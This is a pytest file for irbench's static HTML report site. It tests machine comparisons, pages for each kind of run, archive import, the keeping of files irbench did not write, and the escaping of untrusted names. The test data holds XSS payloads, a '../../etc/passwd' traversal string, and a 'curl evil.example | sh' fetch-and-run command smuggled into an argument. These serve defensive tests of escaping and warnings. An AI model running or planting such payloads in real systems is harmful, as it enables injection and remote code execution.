"""A site shows what stored runs say of machines, replaces only what irbench wrote, and holds untrusted text as text."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from compared_runs import MACHINE, store, times
from front_door import Called, irbench

from irbench import report
from irbench.core.record import Failure
from irbench.core.row import Generated, Requested, Spans
from irbench.features.report import site_run, site_view
from irbench.features.report.site import page_files
from irbench.spec import LossCheck, Neighbour

FAST = {**MACHINE, "cpu": {**MACHINE["cpu"], "Model name": "Fast(R) CPU @ 3.00GHz"}}
SLOW = {**MACHINE, "cpu": {**MACHINE["cpu"], "Model name": "Slow Processor"}}
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=1>',
    "\u202egnp.exe",
    "a" * 4000,
    "../../etc/passwd",
    "..",
)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.rows: list[list[str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append([])
        if tag in ("td", "th"):
            self.rows[-1].append("")

    def handle_data(self, data: str) -> None:
        if self.rows and self.rows[-1]:
            self.rows[-1][-1] += data.strip()


def read(page: Path) -> _Reader:
    reader = _Reader()
    reader.feed(page.read_text())
    return reader


def site(root: Path, *options: object) -> Called:
    return irbench("report", "--site", root / "site", "--results", root / "results", *options)


def two_machines(root: Path) -> None:
    store(root / "results", {"ort": times(1)}, environment=FAST)
    store(root / "results", {"ort": times(2)}, environment=SLOW)


def index(root: Path) -> _Reader:
    return read(root / "site" / "index.html")


def test_the_index_has_every_machine_and_how_they_compare(tmp_path: Path):
    two_machines(tmp_path)
    called = site(tmp_path)
    assert called.code == 0, called.err
    rows = index(tmp_path).rows
    assert {row[0] for row in rows} >= {"Fast, 2 processors", "Slow, 2 processors"}
    (compared,) = (row for row in rows if "slower" in row or "faster" in row)
    assert {"tiny", "ort"} <= set(compared)
    assert len([file for file in (tmp_path / "site").iterdir() if file.name.startswith("machine-")]) == 2


def test_the_matrix_marks_the_fastest_backend_of_a_model_and_those_that_tie_with_it(tmp_path: Path):
    store(tmp_path / "results", {"ort": times(1), "openvino": times(1), "tf": times(3)}, environment=FAST)
    called = site(tmp_path)
    assert called.code == 0, called.err
    heading, row = index(tmp_path).rows[:2]
    marked = {backend for backend, cell in zip(heading, row, strict=True) if "★" in cell}
    assert marked == {"ort", "openvino"}
    assert {"model", "ort", "openvino", "tf"} <= set(heading)
    assert row[0] == "tiny"


def test_training_generation_and_coruns_have_pages_of_their_own_with_their_figures(tmp_path: Path):
    texts = Generated(16, 8, Spans(0.4), Spans(0.2), Spans(2682.0, low=2600.0, high=2700.0))
    kinds: dict[str, dict[str, object]] = {
        "plain": {},
        "decoder": {"generation": texts},
        "trained": {"loss": LossCheck((2.3, 2.0), 2.3, 2.0)},
        "pressed": {"requested": Requested(1, 1, "fp32", beside=Neighbour("cpu"))},
    }
    for model, row in kinds.items():
        store(tmp_path / "results", {"ort": times(1)}, table={"model": model}, row=row)
    called = site(tmp_path)
    assert called.code == 0, called.err
    shown = {"plain": "index", "decoder": "generation", "trained": "training", "pressed": "corun"}
    for model, page in shown.items():
        found = read(tmp_path / "site" / f"{page}.html")
        assert {row[0] for row in found.rows} & set(kinds) == {model}
    links = {attributes.get("href") for _, attributes in index(tmp_path).tags}
    assert {"generation.html", "training.html", "corun.html"} <= links
    heading, row = read(tmp_path / "site" / "generation.html").rows[:2]
    figures = dict(zip(heading, row, strict=True))
    assert figures["tokens/s"] == "2682 [2600, 2700]"
    assert "FPS" not in figures
    assert "samples/s" in read(tmp_path / "site" / "training.html").rows[0]
    assert "slowdown" in read(tmp_path / "site" / "corun.html").rows[0]
    assert "tokens/s" in read(tmp_path / "site" / "model-decoder.html").rows[0]


def test_rows_that_failed_stand_with_those_of_their_kind(tmp_path: Path):
    kinds: dict[str, tuple[str, dict[str, object]]] = {
        "decoder": ("generation", {"generate": 16}),
        "trained": ("training", {"training": {"steps": 8}}),
    }
    store(tmp_path / "results", {"ort": times(1)}, table={"model": "plain"})
    for model, (_, plan) in kinds.items():
        failed = {"state": "failed", "failure": Failure("import", "It gave no answer.")}
        store(tmp_path / "results", {"ort": times(1)}, table={"model": model}, plan=plan, row=failed)
    called = site(tmp_path)
    assert called.code == 0, called.err
    assert {row[0] for row in index(tmp_path).rows} & {"plain", *kinds} == {"plain"}
    for model, (page, _) in kinds.items():
        assert model in {row[0] for row in read(tmp_path / "site" / f"{page}.html").rows}


def test_a_site_of_inferences_alone_has_no_page_of_other_kinds(tmp_path: Path):
    two_machines(tmp_path)
    site(tmp_path)
    assert not {"generation.html", "training.html", "corun.html"} & {
        page.name for page in (tmp_path / "site").iterdir()
    }


def test_every_link_leads_to_a_file_of_the_site_and_nothing_outside_is_asked_for(tmp_path: Path):
    two_machines(tmp_path)
    site(tmp_path)
    pages = list((tmp_path / "site").glob("*.html"))
    assert len(pages) == 1 + 1 + 1 + 2 + 2
    for page in pages:
        for _, attributes in read(page).tags:
            assert not attributes.get("src")
            assert not {name for name in attributes if name.startswith("on")}
            target = attributes.get("href") or "#"
            assert target.startswith("#") or (tmp_path / "site" / target).is_file()


def test_the_archive_of_a_run_can_be_imported(tmp_path: Path):
    writer = store(tmp_path / "results", {"ort": times(1)})
    site(tmp_path)
    archive = tmp_path / "site" / f"run-{writer.document.run_id}.tar.gz"
    called = irbench("results", "import", archive, "--results", tmp_path / "elsewhere")
    assert called.code == 0, called.err
    assert len(list((tmp_path / "elsewhere").glob("runs/*/*/run.json"))) == 1


@pytest.mark.parametrize("kept", ["file", "folder", "page-of-others", "link"])
def test_what_irbench_did_not_write_is_kept(kept: str, tmp_path: Path):
    store(tmp_path / "results", {"ort": times(1)})
    target = tmp_path / "site"
    if kept == "file":
        target.write_text("mine")
    elif kept == "link":
        (tmp_path / "mine").mkdir()
        target.symlink_to("mine")
    else:
        target.mkdir()
        (target / "index.html").write_text("mine")
    if kept == "page-of-others":
        (target / site_run.MARKER).write_text('{"irbench": "1", "files": []}')
    before = sorted(path.name for path in tmp_path.rglob("*"))
    called = site(tmp_path)
    assert called.code == 2
    assert "--site" in called.err
    assert sorted(path.name for path in tmp_path.rglob("*")) == before


def test_a_file_that_was_put_into_a_site_is_never_lost(tmp_path: Path):
    store(tmp_path / "results", {"ort": times(1)})
    site(tmp_path)
    (tmp_path / "site" / "CNAME").write_text("mine")
    called = site(tmp_path)
    assert called.code == 2
    assert "CNAME" in called.err
    assert (tmp_path / "site" / "CNAME").read_text() == "mine"
    assert (tmp_path / "site" / "index.html").is_file()


def test_pages_of_what_is_gone_vanish(tmp_path: Path):
    first = store(tmp_path / "results", {"ort": times(1)}, table={"model": "first"})
    store(tmp_path / "results", {"ort": times(1)}, table={"model": "second"})
    site(tmp_path)
    irbench("results", "rm", first.document.run_id, "--yes", "--results", tmp_path / "results")
    assert site(tmp_path).code == 0
    names = {path.name for path in (tmp_path / "site").iterdir()}
    assert "model-second.html" in names
    assert "model-first.html" not in names
    assert f"run-{first.document.run_id}.html" not in names


def test_runs_that_cannot_be_used_are_listed_with_the_reason_and_without_folders_of_this_machine(tmp_path: Path):
    store(tmp_path / "results", {"ort": times(1)})
    damaged = store(tmp_path / "results", {"ort": times(1)})
    older = store(tmp_path / "results", {"ort": times(1)})
    linked = store(tmp_path / "elsewhere", {"ort": times(1)})
    launch = next(damaged.folder.glob("launch-*"))
    launch.write_bytes(launch.read_bytes()[:-1])
    document = older.folder / "run.json"
    document.write_text(re.sub(r'"schema_version": \d+', '"schema_version": 1', document.read_text()))
    (older.folder.parent / linked.folder.name).symlink_to(linked.folder)
    called = site(tmp_path)
    assert called.code == 0
    assert "warning: 3 runs" in called.err
    text = (tmp_path / "site" / "index.html").read_text()
    for run in (damaged, older, linked):
        assert run.document.run_id in text
        assert not (tmp_path / "site" / f"run-{run.document.run_id}.html").exists()
    for page in (tmp_path / "site").iterdir():
        assert str(tmp_path).encode() not in page.read_bytes()


def test_without_any_run_that_can_be_used_nothing_is_written(tmp_path: Path):
    (tmp_path / "results").mkdir()
    assert site(tmp_path).code == 2
    writer = store(tmp_path / "results", {"ort": times(1)})
    (writer.folder / "run.json").write_text("{}")
    called = site(tmp_path)
    assert called.code == 2
    assert not (tmp_path / "site").exists()


def test_names_of_others_stay_text_and_two_of_them_never_share_a_page(tmp_path: Path):
    for name in HOSTILE:
        store(
            tmp_path / "results",
            {"ort": times(1)},
            table={"model": name},
            plan={"name": name, "note": name, "command": ["irbench", name], "models": [name]},
            environment={**MACHINE, "cpu": {"Model name": name}, "system": name},
        )
    called = site(tmp_path)
    assert called.code == 0, called.err
    pages = list((tmp_path / "site").glob("*.html"))
    assert len([page for page in pages if page.name.startswith("model-")]) == len(HOSTILE)
    for page in pages:
        assert re.fullmatch(r"[A-Za-z0-9._-]{1,100}", page.name)
        text = page.read_text()
        assert "\u202e" not in text
        found = [tag for tag, _ in read(page).tags]
        assert found.count("script") == 1
        assert "img" not in found


def test_a_command_of_another_program_is_not_offered_to_be_copied(tmp_path: Path):
    store(tmp_path / "results", {"ort": times(1)}, plan={"command": ["curl", "evil.example"]})
    store(tmp_path / "results", {"ort": times(1)}, plan={"command": ["irbench", "run", "tiny"]})
    site(tmp_path)
    text = "".join(page.read_text() for page in (tmp_path / "site").glob("*.html"))
    assert "irbench run tiny" in text
    assert "evil.example" not in text


@pytest.mark.parametrize("cell", [("--cell", "mine=sh -c 'curl evil.example | sh'"), ()])
def test_a_command_that_runs_code_is_warned_of_wherever_it_is_offered(tmp_path: Path, cell: tuple[str, ...]):
    store(tmp_path / "results", {"ort": times(1)}, plan={"command": ["irbench", "run", "tiny", *cell]})
    site(tmp_path)
    for page in (tmp_path / "site").glob("*.html"):
        text = page.read_text()
        if "irbench run tiny" in text:
            assert any(said in text for said in ("read it first", "read the command before")) == bool(cell), page


def test_of_very_many_runs_and_rows_the_newest_are_shown_and_a_line_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(site_run, "MOST_RUNS", 2)
    monkeypatch.setattr(site_view, "MOST_ROWS", 3)
    for number in range(4):
        store(tmp_path / "results", {"ort": times(1), "tf": times(2)}, table={"model": f"m{number}"})
    called = site(tmp_path)
    assert "2 older runs are left out" in called.err
    text = (tmp_path / "site" / "index.html").read_text()
    assert "2 older runs are left out" in text
    assert "1 of 4 rows" in text
    assert len(list((tmp_path / "site").glob("run-*.html"))) == 2


@pytest.mark.parametrize("others", [("-o", "page.html"), ("--format", "svg"), ("--force",)], ids=str)
def test_what_has_no_effect_on_a_site_is_refused(others: tuple[str, ...], tmp_path: Path):
    called = site(tmp_path, *others)
    assert called.code == 2
    assert others[0] in called.err


def test_charts_are_of_a_site_alone(tmp_path: Path):
    called = irbench("report", "--charts", "--results", tmp_path)
    assert called.code == 2
    assert "--site" in called.err


NAMES = (
    *("resnet50", "ResNet50", "résnet50", "../resnet50", "resnet50/", "a.b_c-d"),
    *("", " ", ".", "..", "con", "a" * 300, "a" * 301),
)


def test_pages_have_harmless_names_that_stay_when_others_come():
    whole = page_files("model", NAMES)
    assert whole["resnet50"] == "model-resnet50.html"
    assert len({file.lower() for file in whole.values()}) == len(NAMES)
    for name, file in whole.items():
        assert re.fullmatch(r"model-[a-z0-9][a-z0-9._-]*\.html", file)
        assert ".." not in file
        assert len(file) < 100
        assert page_files("model", [name])[name] == file


def test_a_name_that_looks_like_the_page_of_another_gets_a_page_of_its_own():
    taken = page_files("model", ["A/B"])["A/B"].removeprefix("model-").removesuffix(".html")
    files: dict[str, Any] = dict(page_files("model", ["A/B", taken]))
    assert files["A/B"] != files[taken]


def test_python_writes_a_site_of_the_runs_that_it_names(tmp_path: Path):
    writer = store(tmp_path / "results", {"ort": times(1)})
    store(tmp_path / "results", {"ort": times(1)})
    written = report(writer.document.run_id, site=tmp_path / "site", results=tmp_path / "results", progress=None)
    assert written == tmp_path / "site" / "index.html"
    assert [path.name for path in written.parent.glob("run-*.html")] == [f"run-{writer.document.run_id}.html"]
